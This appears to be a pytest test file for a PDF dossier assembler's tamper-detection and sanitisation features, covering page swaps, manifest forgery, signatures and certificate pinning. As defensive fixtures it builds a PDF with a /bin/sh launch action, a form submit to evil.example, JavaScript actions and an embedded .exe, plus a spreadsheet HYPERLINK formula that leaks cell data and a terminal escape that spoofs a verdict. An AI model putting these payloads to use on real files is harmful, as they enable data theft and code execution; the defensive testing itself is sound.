"""verify holds against every kind of tampering a reviewer has met, and never crashes; benign rewrites pass;
active content never reaches a reviewer; reviewer outputs are safe."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pikepdf
import pytest
from click.testing import CliRunner
from conftest import copy_example, edit_yaml, need_tool
from openpyxl import load_workbook

from assembler.cli import cli
from assembler.integrity.manifest import binding_of
from assembler.integrity.pagedigest import page_digests
from assembler.pipeline.run import BuildOptions, build
from assembler.reviewer.verify import page_findings

pytestmark = pytest.mark.slow


def verify_json(path: Path) -> tuple[int, dict[str, str]]:
    result = CliRunner().invoke(cli, ["verify", str(path), "--json"])
    assert "Traceback" not in result.output
    if result.exit_code == 2:
        return 2, {}
    return result.exit_code, {f["rule"]: f["message"] for f in json.loads(result.output)["findings"]}


def errors(findings: dict[str, str]) -> set[str]:
    return {rule for rule in findings if rule not in ("VERIFY-BUILT-BY", "VERIFY-UNSIGNED")}


@pytest.fixture
def dossier(example_dossiers, tmp_path) -> Path:
    target = tmp_path / "received.pdf"
    shutil.copy(example_dossiers["innovation-count"], target)
    return target


def qpdf(*args: str) -> None:
    need_tool("qpdf")
    subprocess.run(["qpdf", *args], check=True)


def test_benign_rewrites_pass(dossier, tmp_path):
    qpdf(str(dossier), "--pages", ".", "1-z", "--", str(tmp_path / "noop.pdf"))
    with pikepdf.open(dossier) as pdf:
        pdf.save(tmp_path / "pikepdf.pdf")
    qpdf(str(dossier), "--object-streams=disable", "--compress-streams=n", str(tmp_path / "plain.pdf"))
    for name in ("noop.pdf", "pikepdf.pdf", "plain.pdf"):
        code, found = verify_json(tmp_path / name)
        assert code == 0 and errors(found) == set(), (name, found)


def test_a_page_replaced_from_another_file_names_that_page_only(dossier, example_dossiers, tmp_path):
    out = tmp_path / "x.pdf"
    qpdf(
        str(dossier),
        "--pages",
        str(dossier),
        "1-5",
        str(example_dossiers["studio"]),
        "5",
        str(dossier),
        "7-z",
        "--",
        str(out),
    )
    code, found = verify_json(out)
    assert code == 1 and found["VERIFY-PAGE-CHANGED"].startswith("第 6 页的")
    assert "VERIFY-PAGE-ADDED" not in found and "VERIFY-PAGE-REMOVED" not in found


def test_reordered_appended_and_removed_pages(dossier, tmp_path):
    qpdf(
        str(dossier), "--pages", ".", "1-4", ".", "6", ".", "5", ".", "7-z", "--", str(tmp_path / "swap.pdf")
    )
    code, found = verify_json(tmp_path / "swap.pdf")
    assert code == 1 and "VERIFY-PAGE-MOVED" in found and "VERIFY-PAGE-CHANGED" not in found
    qpdf(str(dossier), "--pages", ".", "1-z", ".", "3", "--", str(tmp_path / "more.pdf"))
    code, found = verify_json(tmp_path / "more.pdf")
    total = len(pikepdf.open(tmp_path / "more.pdf").pages)
    assert code == 1 and found["VERIFY-PAGE-ADDED"] == f"第 {total} 页是生成后添加的"
    assert "VERIFY-PAGE-CHANGED" not in found
    qpdf(str(dossier), "--pages", ".", "1-7", ".", "9-z", "--", str(tmp_path / "less.pdf"))
    code, found = verify_json(tmp_path / "less.pdf")
    assert code == 1 and found["VERIFY-PAGE-REMOVED"] == "生成时的第 8 页已被删除"


def test_an_annotation_laid_over_the_cover_is_caught(dossier, tmp_path):
    with pikepdf.open(dossier) as pdf:
        cover = pdf.pages[0]
        note = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.FreeText,
            Rect=[200, 400, 400, 440],
            Contents=pikepdf.String("50,000 元"),
            DA=pikepdf.String("/Helv 20 Tf 0 g"),
        )
        cover.obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(note)]))
        pdf.save(tmp_path / "overlay.pdf")
    code, found = verify_json(tmp_path / "overlay.pdf")
    assert code == 1 and found["VERIFY-PAGE-CHANGED"].startswith("第 1 页的")


def _rewrite_manifest(src: Path, dest: Path, change) -> Path:
    with pikepdf.open(src) as pdf:
        manifest = json.loads(pdf.attachments["manifest.json"].get_file().read_bytes())
        change(manifest, pdf)
        pdf.attachments["manifest.json"] = pikepdf.AttachedFileSpec(
            pdf, json.dumps(manifest, ensure_ascii=False).encode(), filename="manifest.json"
        )
        pdf.save(dest)
    return dest


def test_an_edited_manifest_is_caught_while_the_pages_are_untouched(dossier, tmp_path):
    def inflate(m, _pdf):
        m["ledger"] += [dict(m["ledger"][0], name=f"新增项目{i}") for i in range(14)]
        m["check"]["award"]["amount_fen"] = 500000

    code, found = verify_json(_rewrite_manifest(dossier, tmp_path / "edited.pdf", inflate))
    assert code == 1 and "VERIFY-MANIFEST-EDITED" in found
    assert "VERIFY-PAGE-CHANGED" not in found


def test_a_manifest_without_digests_or_with_wrong_types_cannot_be_verified(dossier, tmp_path):
    gone = _rewrite_manifest(dossier, tmp_path / "gone.pdf", lambda m, _: m["pages"].pop("digests"))
    typed = _rewrite_manifest(dossier, tmp_path / "typed.pdf", lambda m, _: m.update(files="many"))
    for path in (gone, typed):
        result = CliRunner().invoke(cli, ["verify", str(path)])
        assert result.exit_code == 2 and "无法核验" in result.output and "Traceback" not in result.output


def test_recomputed_digests_without_a_key_still_break_the_binding(dossier, tmp_path):
    """Digests recomputed with the tool's own function hide page edits, but an edited manifest no longer
    matches the 核验码 printed on the 文件清单 page; that the printed code itself could be redrawn is why
    digests prove consistency, not origin (README)."""

    def forge(m, pdf):
        m["check"]["award"]["amount_fen"] = 500000
        m["pages"]["digests"] = page_digests(pdf)

    code, found = verify_json(_rewrite_manifest(dossier, tmp_path / "forged.pdf", forge))
    assert code == 1 and "VERIFY-MANIFEST-EDITED" in found


def test_binding_is_the_printed_code(dossier):
    with pikepdf.open(dossier) as pdf:
        manifest = json.loads(pdf.attachments["manifest.json"].get_file().read_bytes())
    assert manifest["binding"] == binding_of(manifest)


def test_a_malformed_outline_is_a_finding_not_a_crash(dossier, tmp_path):
    with pikepdf.open(dossier) as pdf:
        first = pdf.Root.Outlines.First
        first.Dest = pikepdf.Array([None, pikepdf.Name.Fit])
        pdf.save(tmp_path / "odd.pdf")
    code, found = verify_json(tmp_path / "odd.pdf")
    assert code == 1 and "VERIFY-OUTLINE" in found


def test_page_findings_on_plain_lists():
    a = ["a", "b", "c", "d"]
    assert page_findings(a, a) == []
    assert [f.rule for f in page_findings(a, ["a", "x", "c", "d"])] == ["VERIFY-PAGE-CHANGED"]
    assert [f.message for f in page_findings(a, ["a", "c", "b", "d"])] == [
        "页面顺序被改动：原第 3 页现为第 2 页"
    ]


def _dangerous_pdf(path: Path) -> Path:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    page = pdf.pages[0]
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 100, 100],
        A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("/bin/sh")),
    )
    attachment = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[100, 100, 120, 120]
    )
    submit = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[200, 200, 300, 300],
        A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://evil.example/")),
    )
    page.obj.Annots = pdf.make_indirect(
        pikepdf.Array([pdf.make_indirect(x) for x in (link, attachment, submit)])
    )
    page.obj.AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    )
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(2)"))
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="invoice.exe")
    pdf.save(path)
    return path


def test_active_content_is_removed_at_build_and_flagged_by_verify(tmp_path, shared_cache):
    app = copy_example("studio", tmp_path)
    _dangerous_pdf(app / "3-进度与成果" / "带脚本的证明.pdf")
    out = build(app, BuildOptions(out=tmp_path / "d.pdf", cache_dir=shared_cache))
    with pikepdf.open(out.path) as pdf:
        manifest = json.loads(pdf.attachments["manifest.json"].get_file().read_bytes())
        assert set(pdf.attachments) == {"manifest.json"}
        for page in pdf.pages:
            assert "/AA" not in page.obj
            for annot in page.obj.get("/Annots", []):
                assert annot.get("/Subtype") != "/FileAttachment"
                assert str(annot.get("/A", {}).get("/S", "")) not in ("/Launch", "/SubmitForm", "/JavaScript")
    entry = next(f for f in manifest["files"] if f["path"].endswith("带脚本的证明.pdf"))
    assert any("启动程序" in r for r in entry["removed"]) and any("附件注释" in r for r in entry["removed"])
    code, found = verify_json(out.path)
    assert code == 0
    with pikepdf.open(out.path) as pdf:
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(3)"))
        pdf.save(tmp_path / "armed.pdf")
    code, found = verify_json(tmp_path / "armed.pdf")
    assert code == 1 and "打开时执行的动作" in found["VERIFY-ACTIVE-CONTENT"]


def test_review_never_overwrites_an_input(dossier, tmp_path):
    before = dossier.read_bytes()
    for out in (dossier, tmp_path / "inside.xlsx"):
        result = CliRunner().invoke(cli, ["review", str(dossier.parent), "-o", str(out)])
        assert result.exit_code == 2 and "不能是" in result.output
    assert dossier.read_bytes() == before and not (tmp_path / "inside.xlsx").exists()


def test_names_are_never_formulas_in_the_workbook_nor_escapes_on_the_terminal(tmp_path, shared_cache):
    app = copy_example("studio", tmp_path)
    name = '=HYPERLINK("http://evil.example/?d="&C2,"点此")'
    edit_yaml(app, lambda d: d["applicant"].update(name=name))
    out = build(app, BuildOptions(out=tmp_path / "in" / "d.pdf", cache_dir=shared_cache))
    result = CliRunner().invoke(cli, ["review", str(out.path), "-o", str(tmp_path / "sum.xlsx")])
    assert result.exit_code == 0, result.output
    cell = next(
        c for row in load_workbook(tmp_path / "sum.xlsx")["汇总"].iter_rows() for c in row if c.value == name
    )
    assert cell.data_type == "s" and cell.quotePrefix
    escape = "单位\x1b[2K\r结论：完整、未被改动"
    edit_yaml(app, lambda d: d["applicant"].update(name=escape))
    out = build(app, BuildOptions(out=tmp_path / "e.pdf", cache_dir=shared_cache))
    shown = CliRunner().invoke(cli, ["verify", str(out.path)]).output
    assert "\x1b" not in shown and "\r" not in shown


def test_a_signed_dossier_names_its_signer_and_a_later_change_breaks_the_signature(tmp_path, shared_cache):
    key = tmp_path / "unit.p12"
    result = CliRunner().invoke(cli, ["keygen", "--name", "天津示例新能源装备有限公司", "-o", str(key)])
    assert result.exit_code == 0 and key.is_file() and (key.stat().st_mode & 0o777) == 0o600
    assert (
        CliRunner().invoke(cli, ["keygen", "--name", "x", "-o", str(key)]).exit_code == 2
    )  # never overwritten
    out = build(
        copy_example("studio", tmp_path),
        BuildOptions(out=tmp_path / "signed.pdf", cache_dir=shared_cache, sign=key),
    )
    assert any("签名" in n for n in out.notes)
    result = CliRunner().invoke(cli, ["verify", str(out.path), "--json"])
    data = json.loads(result.output)
    assert result.exit_code == 0, result.output
    assert data["signature"]["signer"].endswith("天津示例新能源装备有限公司")
    assert data["signature"]["intact"] and data["signature"]["covers_whole_file"]
    assert "VERIFY-SIGNED" in {f["rule"] for f in data["findings"]}
    with open(out.path, "ab") as fh:  # an incremental update after signing: the pages are untouched
        fh.write(b"\n% appended after signing\n")
    tampered = tmp_path / "after.pdf"
    with pikepdf.open(out.path) as pdf:
        pdf.docinfo["/Title"] = "changed"
        pdf.save(tampered)
    code, found = verify_json(tampered)
    assert code == 1 and "VERIFY-SIGNATURE-BROKEN" in found


def test_the_register_pins_a_units_certificate_and_flags_another(tmp_path, shared_cache):
    from assembler.reviewer.register.db import open_register
    from assembler.reviewer.register.intake import intake_one

    first_key, other_key = tmp_path / "a.p12", tmp_path / "b.p12"
    for key in (first_key, other_key):
        assert (
            CliRunner()
            .invoke(cli, ["keygen", "--name", "天津示例新能源装备有限公司", "-o", str(key)])
            .exit_code
            == 0
        )
    app = copy_example("studio", tmp_path)
    first = build(app, BuildOptions(out=tmp_path / "first.pdf", cache_dir=shared_cache, sign=first_key))
    edit_yaml(app, lambda d: d["applicant"]["contact"].update(name="王五"))  # a resubmission
    second = build(app, BuildOptions(out=tmp_path / "second.pdf", cache_dir=shared_cache, sign=other_key))
    register = open_register(tmp_path / "register.sqlite")
    assert "REGISTER-CERTIFICATE-CHANGED" not in {f.rule for f in intake_one(register, first.path).findings}
    found = {f.rule for f in intake_one(register, second.path).findings}
    assert "REGISTER-CERTIFICATE-CHANGED" in found


def test_a_text_added_to_the_cover_is_caught(dossier, tmp_path):
    with pikepdf.open(dossier) as pdf:
        cover = pdf.pages[0]
        cover.contents_add(b"BT /Helv 18 Tf 300 420 Td (50000) Tj ET", prepend=False)
        pdf.save(tmp_path / "cover.pdf")
    code, found = verify_json(tmp_path / "cover.pdf")
    assert code == 1 and found["VERIFY-PAGE-CHANGED"].startswith("第 1 页的")
